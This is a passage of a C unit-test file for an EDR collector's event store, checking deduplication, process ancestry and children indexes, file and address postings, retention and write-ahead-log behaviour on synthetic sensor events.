/* Store tests: what the collector writes is found by every read query, once. */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "edr/arena.h"
#include "edr/cpus.h"
#include "edr/err.h"
#include "edr/frame.h"
#include "edr/store.h"
#include "edr/synth.h"
#include "store_int.h"

#include <dirent.h>
#include <errno.h>
#include <sched.h>
#include <ftw.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <rocksdb/c.h>

#define HOSTS   5
#define BATCHES 20
#define EVENTS  200

static char dir[64];

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *f)
{
    (void)st;
    (void)flag;
    (void)f;
    return remove(p);
}

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof(dir), "/tmp/edr-test-store-XXXXXX");
    assert_non_null(mkdtemp(dir));
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    nftw(dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
    return 0;
}

typedef struct {
    uint8_t entity[16];
    uint8_t parent[16];
    char exe[256];
    char path[256];
    uint64_t n_events; /* events with this actor */
    uint64_t t_first;
    int have;
} target_t;

static target_t tgt;

/* The writer of shard 0 of the test's store, and a reader of the store. */
static edr_store_writer_t *open_writer(void)
{
    char err[512];
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    if (!w)
        fail_msg("writer: %s", err);
    return w;
}

static edr_store_t *open_reader(void)
{
    char err[512];
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    if (!r)
        fail_msg("reader: %s", err);
    return r;
}

/* Writes the synthetic stream into shard 0; returns events written. */
static uint64_t fill(edr_store_writer_t *w, int commit_every)
{
    edr_synth_opts_t so = {.hosts = HOSTS, .seed = 7};
    edr_synth_t *s = edr_synth_new(&so);
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL), *dec = edr_frame_ctx_new(NULL);
    edr_arena_t a;
    edr_arena_init(&a, 1 << 16);
    uint64_t events = 0;
    int n = 0;
    for (int i = 0; i < BATCHES; i++) {
        for (uint32_t h = 0; h < HOSTS; h++) {
            Edr__V1__EventBatch *b = edr_synth_next_batch(s, h, EVENTS, &a);
            assert_non_null(b);
            const uint8_t *fr;
            size_t fl;
            assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
            Edr__V1__EventBatch *d;
            assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
            for (size_t e = 0; e < d->n_events; e++) {
                const Edr__V1__Event *ev = d->events[e];
                if (!tgt.have && h == 2 && i == 3 && ev->body_case == EDR__V1__EVENT__BODY_PROCESS_START &&
                    ev->parent_entity_id.len == 16) {
                    memcpy(tgt.entity, ev->entity_id.data, 16);
                    memcpy(tgt.parent, ev->parent_entity_id.data, 16);
                    snprintf(tgt.exe, sizeof(tgt.exe), "%s", ev->process_start->exe);
                    tgt.t_first = d->base_time_ns + (uint64_t)ev->time_offset_ns;
                    tgt.have = 1;
                }
                if (tgt.have && ev->entity_id.len == 16 && !memcmp(ev->entity_id.data, tgt.entity, 16))
                    tgt.n_events++;
                if (!tgt.path[0] && ev->body_case == EDR__V1__EVENT__BODY_FILE_WRITE)
                    snprintf(tgt.path, sizeof(tgt.path), "%s", ev->file_write->path);
            }
            assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
            events += d->n_events;
            edr_arena_reset(&a);
            if (++n % commit_every == 0) {
                edr_store_writer_set_offset(w, n);
                assert_int_equal(edr_store_writer_commit(w), 0);
            }
        }
    }
    edr_store_writer_set_offset(w, n);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_arena_close(&a);
    edr_frame_ctx_destroy(enc);
    edr_frame_ctx_destroy(dec);
    edr_synth_destroy(s);
    return events;
}

/* Encodes b as the sensor would, decodes it as the collector does and adds
 * it to w: edr_store_writer_add's result. */
static int encode_add(edr_store_writer_t *w, edr_frame_ctx_t *enc, edr_frame_ctx_t *dec,
                      const Edr__V1__EventBatch *b)
{
    const uint8_t *fr;
    size_t fl;
    Edr__V1__EventBatch *d;
    assert_int_equal(edr_frame_encode(enc, b, 0, &fr, &fl), 0);
    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0);
    return edr_store_writer_add(w, fr, fl, d);
}

/* Re-adds the whole stream: every batch must be recognised as stored. */
static void readd_all(edr_store_writer_t *w)
{
    edr_synth_opts_t so = {.hosts = HOSTS, .seed = 7};
    edr_synth_t *s = edr_synth_new(&so);
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL), *dec = edr_frame_ctx_new(NULL);
    edr_arena_t a;
    edr_arena_init(&a, 1 << 16);
    for (int i = 0; i < BATCHES; i++)
        for (uint32_t h = 0; h < HOSTS; h++) {
            Edr__V1__EventBatch *b = edr_synth_next_batch(s, h, EVENTS, &a);
            assert_int_equal(encode_add(w, enc, dec, b), 1);
            edr_arena_reset(&a);
        }
    assert_int_equal(edr_store_writer_pending(w), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    edr_arena_close(&a);
    edr_frame_ctx_destroy(enc);
    edr_frame_ctx_destroy(dec);
    edr_synth_destroy(s);
}

static int count_ev(const Edr__V1__EventBatch *b, const Edr__V1__Event *e, const edr_block_key_t *k,
                    void *ud)
{
    (void)b;
    (void)e;
    (void)k;
    (*(uint64_t *)ud)++;
    return 0;
}

static int count_blk(const edr_block_info_t *bi, void *ud)
{
    assert_true(bi->n_events > 0);
    (*(uint64_t *)ud)++;
    return 0;
}

/* The time span of the blocks seen. */
struct span {
    uint64_t n, first, last;
};

static int span_blk(const edr_block_info_t *bi, void *ud)
{
    struct span *sp = ud;
    if (!sp->n++ || bi->first_ns < sp->first)
        sp->first = bi->first_ns;
    if (bi->last_ns > sp->last)
        sp->last = bi->last_ns;
    return 0;
}

/* A file's or an address's blocks outside [from, to) are not listed,
 * though their hour bucket is in it (they were). */
static void check_posting_window(edr_store_t *r, const char *path, const uint8_t ip[4])
{
    for (int w = 0; w < 2; w++) {
        struct span all = {0}, sp = {0};
#define POSTINGS(f, t, fn, ud)                                                                     \
    (w ? edr_store_remote_blocks(r, ip, 4, f, t, fn, ud)                                           \
       : edr_store_file_blocks(r, path, f, t, fn, ud))
        assert_int_equal(POSTINGS(0, 0, span_blk, &all), 0);
        assert_true(all.n >= 1);
        assert_int_equal(POSTINGS(all.first, all.last + 1, span_blk, &sp), 0);
        assert_int_equal(sp.n, all.n);
        sp.n = 0;
        assert_int_equal(POSTINGS(all.last + 1, 0, span_blk, &sp), 0);
        assert_int_equal(sp.n, 0);
        assert_int_equal(POSTINGS(1, all.first, span_blk, &sp), 0);
        assert_int_equal(sp.n, 0);
#undef POSTINGS
    }
}

struct anc {
    int n;
    uint8_t second[16];
    char exe[256];
};

static int anc_fn(const Edr__V1__ProcessRecord *p, void *ud)
{
    struct anc *a = ud;
    if (a->n == 0)
        snprintf(a->exe, sizeof(a->exe), "%s", p->exe);
    if (a->n == 1)
        memcpy(a->second, p->entity_id.data, 16);
    a->n++;
    return 0;
}

static int kid_fn(const Edr__V1__ProcessRecord *p, void *ud)
{
    if (!memcmp(p->entity_id.data, tgt.entity, 16))
        (*(int *)ud)++;
    return 0;
}

static int host_fn(const Edr__V1__HostRecord *h, const Edr__V1__Event *health, void *ud)
{
    (void)health;
    assert_int_equal(h->last_seq, BATCHES);
    assert_true(h->last_seen_ns >= h->first_seen_ns);
    (*(int *)ud)++;
    return 0;
}

static int hash_fn(const uint8_t host[16], const uint8_t ent[16], void *ud)
{
    (void)host;
    (void)ent;
    (*(int *)ud)++;
    return 0;
}

static int hash_fn_hosts(const uint8_t host[16], uint64_t last_bucket_ns, void *ud)
{
    (void)host;
    (void)last_bucket_ns;
    (*(int *)ud)++;
    return 0;
}

static int hh_fn(const uint8_t host[16], uint64_t last_bucket_ns, void *ud)
{
    assert_int_equal(host[0], 0xaa);
    assert_true(last_bucket_ns > 0);
    (*(int *)ud)++;
    return 0;
}

static int ent_fn(const Edr__V1__ProcessRecord *p, void *ud)
{
    memcpy(ud, p->entity_id.data, 16);
    return 0;
}

/* Bytes in the WAL files (*.log) of shard 0 of the store at root. */
static long long wal_bytes(const char *root)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/shard-0000", root);
    DIR *d = opendir(path);
    assert_non_null(d);
    long long n = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        size_t l = strlen(e->d_name);
        struct stat st;
        char f[800];
        if (l < 4 || strcmp(e->d_name + l - 4, ".log") != 0)
            continue;
        snprintf(f, sizeof(f), "%s/%s", path, e->d_name);
        if (stat(f, &st) == 0)
            n += st.st_size;
    }
    closedir(d);
    return n;
}

static void test_write_dedup_read(void **state)
{
    (void)state;
    char err[512];
    memset(&tgt, 0, sizeof(tgt));
    edr_store_writer_t *w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    int64_t off;
    assert_int_equal(edr_store_writer_offset(w, &off), EDR_ENOENT);
    /* an empty shard takes no room ahead: RocksDB reserved a write-ahead
     * log and a MANIFEST (~75 MiB) at every open (review-1206n-coll 1) */
    if (edr_store_writer_disk_bytes(w) > (1u << 20))
        fail_msg("an empty shard takes %llu bytes of disk",
                 (unsigned long long)edr_store_writer_disk_bytes(w));
    uint64_t events = fill(w, 7);
    assert_int_equal(edr_store_writer_offset(w, &off), 0);
    assert_int_equal(off, HOSTS * BATCHES);
    /* a second writer on the same shard is refused with a message naming it */
    assert_null(edr_store_writer_open(dir, 0, NULL, err, sizeof(err)));
    assert_non_null(strstr(err, "shard-0000"));
    readd_all(w);
    edr_store_writer_stats_t st;
    edr_store_writer_stats(w, &st);
    assert_int_equal(st.batches, HOSTS * BATCHES);
    assert_int_equal(st.duplicates, HOSTS * BATCHES);

    /* a reader sees it while the writer is open */
    edr_store_t *r = edr_store_open(dir, NULL, err, sizeof(err));
    assert_non_null(r);
    edr_store_stats_t ss;
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_int_equal(ss.blocks, HOSTS * BATCHES);
    assert_int_equal(ss.events, events);
    assert_int_equal(ss.hosts, HOSTS);
    int nh = 0;
    assert_int_equal(edr_store_hosts(r, host_fn, &nh), 0);
    assert_int_equal(nh, HOSTS);

    assert_true(tgt.have);
    edr_arena_t a;
    edr_arena_init(&a, 4096);
    Edr__V1__ProcessRecord *p;
    assert_int_equal(edr_store_process_get(r, tgt.entity, &a, &p), 0);
    assert_string_equal(p->exe, tgt.exe);
    assert_memory_equal(p->parent_entity_id.data, tgt.parent, 16);
    assert_true(p->start_time_ns > 0);
    assert_int_equal(p->first_block.len, EDR_BLOCK_KEY_LEN);
    uint8_t nobody[16] = {1, 2, 3};
    assert_int_equal(edr_store_process_get(r, nobody, &a, &p), EDR_ENOENT);
    assert_int_equal(edr_store_process_ancestry(r, nobody, 0, anc_fn, NULL), EDR_ENOENT);

    struct anc an = {0};
    assert_int_equal(edr_store_process_ancestry(r, tgt.entity, 0, anc_fn, &an), 0);
    assert_true(an.n >= 2);
    assert_string_equal(an.exe, tgt.exe);
    assert_memory_equal(an.second, tgt.parent, 16);
    int kids = 0;
    assert_int_equal(edr_store_process_children(r, tgt.parent, kid_fn, &kids), 0);
    assert_int_equal(kids, 1);

    uint64_t n = 0;
    assert_int_equal(edr_store_entity_events(r, tgt.entity, 0, 0, count_ev, &n), 0);
    assert_int_equal(n, tgt.n_events);
    n = 0; /* a window that ends before the process started holds none of its events */
    assert_int_equal(edr_store_entity_events(r, tgt.entity, 0, tgt.t_first, count_ev, &n), 0);
    assert_int_equal(n, 0);

    uint64_t nb = 0;
    assert_int_equal(edr_store_file_blocks(r, tgt.path, 0, 0, count_blk, &nb), 0);
    assert_true(nb >= 1);
    nb = 0;
    assert_int_equal(edr_store_file_blocks(r, "/no/such/file", 0, 0, count_blk, &nb), 0);
    assert_int_equal(nb, 0);
    uint8_t host2[16];
    edr_synth_opts_t so = {.hosts = HOSTS, .seed = 7};
    edr_synth_t *sy = edr_synth_new(&so);
    edr_synth_host_id(sy, 2, host2);
    edr_synth_destroy(sy);
    nb = 0;
    assert_int_equal(edr_store_host_blocks(r, host2, 0, 0, count_blk, &nb), 0);
    assert_int_equal(nb, BATCHES);
    n = 0;
    assert_int_equal(edr_store_host_events(r, host2, 0, 0, count_ev, &n), 0);
    assert_int_equal(n, BATCHES * EVENTS);
    uint8_t ip[4] = {10, 0, 4, 17};
    nb = 0;
    assert_int_equal(edr_store_remote_blocks(r, ip, 4, 0, 0, count_blk, &nb), 0);
    assert_true(nb >= 1);
    assert_int_equal(edr_store_remote_blocks(r, ip, 3, 0, 0, count_blk, &nb), EDR_EINVAL);
    check_posting_window(r, tgt.path, ip);

    /* new data becomes visible after a refresh: a hand-made batch with a hash and an exit */
    uint8_t hid[16] = {0xaa}, ent[16] = {0xbb}, sha[32] = {0xcc};
    Edr__V1__SensorInfo si = EDR__V1__SENSOR_INFO__INIT;
    si.host_id.data = hid;
    si.host_id.len = 16;
    si.hostname = "web-1";
    Edr__V1__ProcessStart ps = EDR__V1__PROCESS_START__INIT;
    ps.exe = "/tmp/x";
    ps.command_line = "/tmp/x -c";
    ps.exe_sha256.data = sha;
    ps.exe_sha256.len = 32;
    Edr__V1__ProcessExit px = EDR__V1__PROCESS_EXIT__INIT;
    px.exit_code = 3;
    Edr__V1__Event e1 = EDR__V1__EVENT__INIT, e2 = EDR__V1__EVENT__INIT;
    Edr__V1__Event *evs[2] = {&e1, &e2};
    e1.entity_id.data = e2.entity_id.data = ent;
    e1.entity_id.len = e2.entity_id.len = 16;
    e1.pid = e2.pid = 42;
    e1.body_case = EDR__V1__EVENT__BODY_PROCESS_START;
    e1.process_start = &ps;
    e2.body_case = EDR__V1__EVENT__BODY_PROCESS_EXIT;
    e2.process_exit = &px;
    e2.time_offset_ns = 5000;
    Edr__V1__EventBatch b = EDR__V1__EVENT_BATCH__INIT;
    b.schema_version = 1;
    b.sensor = &si;
    b.seq = 1;
    b.base_time_ns = 1767225600000000000ull;
    b.n_events = 1;
    b.events = evs;
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    const uint8_t *fr;
    size_t fl;
    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, &b), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    b.seq = 2; /* the exit arrives in a later batch and is merged into the record */
    b.events = evs + 1;
    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, &b), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    int nhash = 0;
    assert_int_equal(edr_store_hash_processes(r, sha, hash_fn, &nhash), 0);
    assert_int_equal(nhash, 0);
    assert_int_equal(edr_store_refresh(r), 0);
    assert_int_equal(edr_store_hash_processes(r, sha, hash_fn, &nhash), 0);
    assert_int_equal(nhash, 1);
    assert_int_equal(edr_store_process_get(r, ent, &a, &p), 0);
    assert_string_equal(p->exe, "/tmp/x");
    assert_int_equal(p->exit_code, 3);
    assert_int_equal(p->end_time_ns, b.base_time_ns + 5000);
    assert_true(memcmp(p->first_block.data, p->last_block.data, EDR_BLOCK_KEY_LEN) < 0);
    /* its events are in two blocks, found through the record and the time index filter */
    uint64_t nev = 0;
    assert_int_equal(edr_store_entity_events(r, ent, 0, 0, count_ev, &nev), 0);
    assert_int_equal(nev, 2);
    nev = 0; /* a window holding only the exit */
    assert_int_equal(edr_store_entity_events(r, ent, b.base_time_ns + 1, 0, count_ev, &nev), 0);
    assert_int_equal(nev, 1);
    int nhh = 0;
    assert_int_equal(edr_store_hash_hosts(r, sha, hh_fn, &nhh), 0);
    assert_int_equal(nhh, 1);

    /* children are indexed by id prefixes: two parents and two children whose
     * prefixes collide must still each get exactly their own child */
    uint8_t par1[16], par2[16], kid1[16], kid2[16];
    memset(par1, 0x51, 16);
    memcpy(par2, par1, 16);
    par2[15] = 0x52;
    memset(kid1, 0x61, 16);
    memcpy(kid2, kid1, 16);
    kid2[15] = 0x62;
    Edr__V1__Event k1 = EDR__V1__EVENT__INIT, k2 = EDR__V1__EVENT__INIT;
    Edr__V1__Event *kevs[2] = {&k1, &k2};
    Edr__V1__ProcessFork pf = EDR__V1__PROCESS_FORK__INIT;
    k1.body_case = k2.body_case = EDR__V1__EVENT__BODY_PROCESS_FORK;
    k1.process_fork = k2.process_fork = &pf;
    k1.entity_id.data = kid1;
    k2.entity_id.data = kid2;
    k1.parent_entity_id.data = par1;
    k2.parent_entity_id.data = par2;
    k1.entity_id.len = k2.entity_id.len = k1.parent_entity_id.len = k2.parent_entity_id.len = 16;
    b.seq = 3;
    b.events = kevs;
    b.n_events = 2;
    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
    assert_int_equal(edr_store_writer_add(w, fr, fl, &b), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
    assert_int_equal(edr_store_refresh(r), 0);
    uint8_t got[16] = {0};
    assert_int_equal(edr_store_process_children(r, par1, ent_fn, got), 0);
    assert_memory_equal(got, kid1, 16);
    assert_int_equal(edr_store_process_children(r, par2, ent_fn, got), 0);
    assert_memory_equal(got, kid2, 16);
    b.n_events = 1;

    /* bad input: no sensor info */
    Edr__V1__EventBatch bad = EDR__V1__EVENT_BATCH__INIT;
    assert_int_equal(edr_store_writer_add(w, fr, fl, &bad), EDR_EINVAL);

    /* retention drops old buckets: everything synthetic is from 2026-01-01 */
    assert_int_equal(edr_store_writer_retire(w, b.base_time_ns + 2 * EDR_STORE_BUCKET_NS), 0);
    /* again in the same hour (a rebalance): no second set of range tombstones */
    long long wal0 = wal_bytes(dir);
    assert_true(wal0 > 0);
    assert_int_equal(edr_store_writer_retire(w, b.base_time_ns + 2 * EDR_STORE_BUCKET_NS + 60000000000ull), 0);
    assert_int_equal(wal_bytes(dir), wal0);
    assert_int_equal(edr_store_refresh(r), 0);
    assert_int_equal(edr_store_stats(r, &ss), 0);
    assert_int_equal(ss.blocks, 0);
    edr_block_key_t k0 = {.bucket = (uint32_t)(b.base_time_ns / EDR_STORE_BUCKET_NS), .seq = 1};
    memcpy(k0.host_id, hid, 16);
    const uint8_t *frame;
    size_t flen;
    assert_int_equal(edr_store_block_get(r, &k0, &a, &frame, &flen), EDR_ENOENT);

    edr_frame_ctx_destroy(enc);
    edr_arena_close(&a);
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
    /* a clean close flushed the memtables: the next open has no WAL to replay */
    assert_int_equal(wal_bytes(dir), 0);

    /* reopen: offset and dedup state survive */
    w = edr_store_writer_open(dir, 0, NULL, err, sizeof(err));
    assert_non_null(w);
    assert_int_equal(edr_store_writer_offset(w, &off), 0);
    assert_int_equal(off, HOSTS * BATCHES);
    edr_store_writer_destroy(w);
}

static int kid_count_fn(const Edr__V1__ProcessRecord *p, void *ud)
{
    (void)p;
    (*(int *)ud)++;
    return 0;
}

/* Stores a batch of the one event e (actor and parent set), seq `seq` of
 * host hid, based at base_ns, and commits it. */
/* b: a batch of host hid holding e alone (si and evs[1] are its storage). */
static void one_batch(Edr__V1__EventBatch *b, Edr__V1__SensorInfo *si, Edr__V1__Event **evs,
                      const uint8_t hid[16], uint64_t seq, uint64_t base_ns, Edr__V1__Event *e)
{
    edr__v1__sensor_info__init(si);
    si->host_id.data = (uint8_t *)hid;
    si->host_id.len = 16;
    evs[0] = e;
    edr__v1__event_batch__init(b);
    b->schema_version = 1;
    b->sensor = si;
    b->events = evs;
    b->n_events = 1;
    b->seq = seq;
    b->base_time_ns = base_ns;
    e->entity_id.len = e->parent_entity_id.len = 16;
}

/* Adds the n events evs as batch seq of host hid (named hostname, when
 * not NULL), based at base_ns; the add's result. */
static int add_named(edr_store_writer_t *w, const uint8_t hid[16], const char *hostname,
                     uint64_t seq, uint64_t base_ns, Edr__V1__Event **evs, size_t n)
{
    Edr__V1__SensorInfo si = EDR__V1__SENSOR_INFO__INIT;
    si.host_id.data = (uint8_t *)hid;
    si.host_id.len = 16;
    if (hostname) si.hostname = (char *)hostname;
    Edr__V1__EventBatch b = EDR__V1__EVENT_BATCH__INIT;
    b.schema_version = 1;
    b.sensor = &si;
    b.events = evs;
    b.n_events = n;
    b.seq = seq;
    b.base_time_ns = base_ns;
    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
    const uint8_t *fr;
    size_t fl;
    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
    int rc = edr_store_writer_add(w, fr, fl, &b);
    edr_frame_ctx_destroy(enc);
    return rc;
}

static int add_uncommitted(edr_store_writer_t *w, const uint8_t hid[16], uint64_t seq,
                           uint64_t base_ns, Edr__V1__Event **evs, size_t n)
{
    return add_named(w, hid, NULL, seq, base_ns, evs, n);
}

/* The same, and commits it. */
static void add_batch(edr_store_writer_t *w, const uint8_t hid[16], uint64_t seq, uint64_t base_ns,
                      Edr__V1__Event **evs, size_t n)
{
    assert_int_equal(add_uncommitted(w, hid, seq, base_ns, evs, n), 0);
    assert_int_equal(edr_store_writer_commit(w), 0);
}

static void add_one(edr_store_writer_t *w, const uint8_t hid[16], uint64_t seq, uint64_t base_ns,
                    Edr__V1__Event *e)
{
    e->entity_id.len = e->parent_entity_id.len = 16;
    add_batch(w, hid, seq, base_ns, &e, 1);
}

/* Stores one batch of one process event of ent (child of parent): its
 * start when ps is given, else a fork. */
static void add_proc(edr_store_writer_t *w, const uint8_t hid[16], uint64_t seq, uint64_t t,
                     uint8_t *ent, uint8_t *parent, Edr__V1__ProcessStart *ps)
{
    Edr__V1__ProcessFork pf = EDR__V1__PROCESS_FORK__INIT;
    Edr__V1__Event e = EDR__V1__EVENT__INIT;
    e.entity_id.data = ent;
    e.parent_entity_id.data = parent;
    if (ps) {
        e.body_case = EDR__V1__EVENT__BODY_PROCESS_START;
        e.process_start = ps;
    } else {
        e.body_case = EDR__V1__EVENT__BODY_PROCESS_FORK;
        e.process_fork = &pf;
    }
    add_one(w, hid, seq, t, &e);
}

static int count_block(const edr_block_info_t *bi, void *ud)
{
    (void)bi;
    ++*(int *)ud;
    return 0;
}

/* Batches whose every event is another process writing another path or
 * connecting to another address: the writer's per-batch sets grow from
 * their small start (review-1207s 2), across batches of different sizes
 * (a big one, a small one, a big one again: the grown tables hold the
 * older batches' entries), and every path, address and process is
 * indexed. */
static void test_many_distinct_in_batch(void **state)
{
    (void)state;
    enum { N = 3000 };
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16] = {0xbb}, par[16], (*ent)[16] = calloc(N, 16);
    char(*path)[40] = calloc(N, 40);
    uint8_t(*ip)[4] = calloc(N, 4);
    Edr__V1__Event *ev = calloc(N, sizeof(*ev)), **evp = calloc(N, sizeof(*evp));
    Edr__V1__FileWrite *fw = calloc(N, sizeof(*fw));
    Edr__V1__Network *nw = calloc(N, sizeof(*nw));
    Edr__V1__Endpoint *re = calloc(N, sizeof(*re));
    assert_non_null(ent && path && ip && ev && evp && fw && nw && re);
    memset(par, 0x41, 16);
    uint64_t t0 = 1767225600000000000ull;
    static const int sizes[3] = {N, 5, N};
    for (int bn = 0; bn < 3; bn++) {
        for (int i = 0; i < sizes[bn]; i++) {
            int k = bn == 2 ? N - 1 - i : i; /* the third batch: the same, reversed */
            edr__v1__event__init(&ev[i]);
            ent[k][0] = 0x50;
            memcpy(ent[k] + 1, &k, sizeof(k));
            ev[i].entity_id.data = ent[k];
            ev[i].entity_id.len = 16;
            ev[i].parent_entity_id.data = par;
            ev[i].parent_entity_id.len = 16;
            ev[i].time_offset_ns = i;
            if (k % 2) {
                edr__v1__network__init(&nw[i]);
                edr__v1__endpoint__init(&re[i]);
                ip[k][0] = 10, ip[k][1] = (uint8_t)(k >> 16), ip[k][2] = (uint8_t)(k >> 8),
                ip[k][3] = (uint8_t)k;
                re[i].ip.data = ip[k];
                re[i].ip.len = 4;
                re[i].port = 443;
                nw[i].remote = &re[i];
                nw[i].action = EDR__V1__NETWORK__ACTION__CONNECT;
                ev[i].body_case = EDR__V1__EVENT__BODY_NETWORK;
                ev[i].network = &nw[i];
            } else {
                edr__v1__file_write__init(&fw[i]);
                snprintf(path[k], 40, "/var/tmp/many/%d", k);
                fw[i].path = path[k];
                ev[i].body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
                ev[i].file_write = &fw[i];
            }
            evp[i] = &ev[i];
        }
        add_batch(w, hid, (uint64_t)bn + 1, t0 + (uint64_t)bn * 1000000, evp, (size_t)sizes[bn]);
    }
    edr_store_writer_destroy(w);
    edr_store_t *r = open_reader();
    edr_arena_t a;
    edr_arena_init(&a, 4096);
    for (int k = 0; k < N; k++) {
        int nb = 0;
        if (k % 2)
            assert_int_equal(edr_store_remote_blocks(r, ip[k], 4, 0, UINT64_MAX, count_block, &nb),
                             0);
        else
            assert_int_equal(edr_store_file_blocks(r, path[k], 0, UINT64_MAX, count_block, &nb), 0);
        /* in the first and third batch; the first five also in the second */
        if (nb != (k < 5 ? 3 : 2))
            fail_msg("%s %d: in %d blocks", k % 2 ? "address" : "path", k, nb);
        Edr__V1__ProcessRecord *pr = NULL;
        assert_int_equal(edr_store_process_get(r, ent[k], &a, &pr), 0);
        assert_non_null(pr);
        edr_arena_reset(&a);
    }
    int nk = 0;
    assert_int_equal(edr_store_process_children(r, par, kid_count_fn, &nk), 0);
    assert_int_equal(nk, N);
    edr_arena_close(&a);
    edr_store_destroy(r);
    free(ent), free(path), free(ip), free(ev), free(evp), free(fw), free(nw), free(re);
}

/* A child's entry under its parent and an image's entry under a host repeat
 * in every batch the process acts in. The writer skips the rewrite while the
 * time bucket is the same, and rewrites when it changes: retention of the
 * older bucket must keep both entries of a process still active later. */
static void test_index_rewrites(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16] = {0xaa}, par[16], kid[16], sha[32];
    memset(par, 0x31, 16);
    memset(kid, 0x32, 16);
    memset(sha, 0x33, 32);
    Edr__V1__FileExec fx = EDR__V1__FILE_EXEC__INIT;
    fx.path = "/usr/bin/tool";
    fx.sha256.data = sha;
    fx.sha256.len = 32;
    Edr__V1__Event e = EDR__V1__EVENT__INIT;
    e.entity_id.data = kid;
    e.parent_entity_id.data = par;
    e.body_case = EDR__V1__EVENT__BODY_FILE_EXEC;
    e.file_exec = &fx;
    uint64_t t0 = 1767225600000000000ull;
    edr_store_writer_stats_t st[4];
    /* seq 1 and 2 in one bucket, seq 3 three buckets later */
    uint64_t when[3] = {t0, t0 + 1000, t0 + 3 * EDR_STORE_BUCKET_NS};
    for (int i = 0; i < 3; i++) {
        edr_store_writer_stats(w, &st[i]);
        add_one(w, hid, (uint64_t)i + 1, when[i], &e);
    }
    edr_store_writer_stats(w, &st[3]);
    assert_int_equal(st[1].writes_saved - st[0].writes_saved, 0); /* the first batch writes all */
    /* child, image and parent-keeping entries */
    assert_int_equal(st[2].writes_saved - st[1].writes_saved, 3);
    assert_int_equal(st[3].writes_saved - st[2].writes_saved, 0); /* a new bucket: rewritten */
    /* the third batch writes what the second skipped */
    assert_int_equal(st[3].writes - st[2].writes, st[2].writes - st[1].writes + 3);

    /* retention of the first bucket keeps what the third batch rewrote */
    assert_int_equal(edr_store_writer_retire(w, t0 + 2 * EDR_STORE_BUCKET_NS), 0);
    edr_store_t *r = open_reader();
    int nk = 0, nh = 0;
    assert_int_equal(edr_store_process_children(r, par, kid_count_fn, &nk), 0);
    assert_int_equal(nk, 1);
    assert_int_equal(edr_store_hash_hosts(r, sha, hh_fn, &nh), 0);
    assert_int_equal(nh, 1);
    edr_store_destroy(r);
    edr_store_writer_destroy(w);
}

static int anc_exe_fn(const Edr__V1__ProcessRecord *p, void *ud)
{
    struct anc *a = ud;
    if (a->n++ == 1)
        snprintf(a->exe, sizeof(a->exe), "%s", p->exe);
    return 0;
}

/* A service that started long ago and only forks since (sshd) keeps its
 * record while its children act: retention of the hours it was last seen in
 * itself must not cut the ancestry of today's child short. */
static void test_parent_kept_by_children(void **state)
{
    (void)state;
    edr_store_writer_t *w = open_writer();
    uint8_t hid[16] = {0xbb}, par[16], kid[16], none[16];
    memset(par, 0x41, 16);
    memset(kid, 0x42, 16);
    memset(none, 0x43, 16);
    Edr__V1__ProcessStart ps = EDR__V1__PROCESS_START__INIT;
    ps.exe = "/usr/sbin/sshd";
    uint8_t sha[32];
    memset(sha, 0x44, 32);
    ps.exe_sha256.data = sha;
    ps.exe_sha256.len = 32;
    Edr__V1__ProcessFork pf = EDR__V1__PROCESS_FORK__INIT;
    Edr__V1__FileExec fx = EDR__V1__FILE_EXEC__INIT;
    fx.path = "/bin/sh";
    uint64_t t0 = 1767225600000000000ull;
    /* sshd starts (its parent: not in the store) */
    Edr__V1__Event e = EDR__V1__EVENT__INIT;
    e.entity_id.data = par;
    e.parent_entity_id.data = none;
    e.body_case = EDR__V1__EVENT__BODY_PROCESS_START;
    e.process_start = &ps;
    add_one(w, hid, 1, t0, &e);
    /* a child forks, then acts three hours later */
    e = (Edr__V1__Event)EDR__V1__EVENT__INIT;
    e.entity_id.data = kid;
    e.parent_entity_id.data = par;
    e.body_case = EDR__V1__EVENT__BODY_PROCESS_FORK;
    e.process_fork = &pf;
    add_one(w, hid, 2, t0 + 1000, &e);
    e.body_case = EDR__V1__EVENT__BODY_FILE_EXEC;
    e.file_exec = &fx;
    add_one(w, hid, 3, t0 + 3 * EDR_STORE_BUCKET_NS, &e);
    assert_int_equal(edr_store_writer_retire(w, t0 + 2 * EDR_STORE_BUCKET_NS), 0);
    /* sshd's image ran only in a retired hour: no host or process has it,
     * even before compaction takes its entries away */
    edr_store_t *r = open_reader();
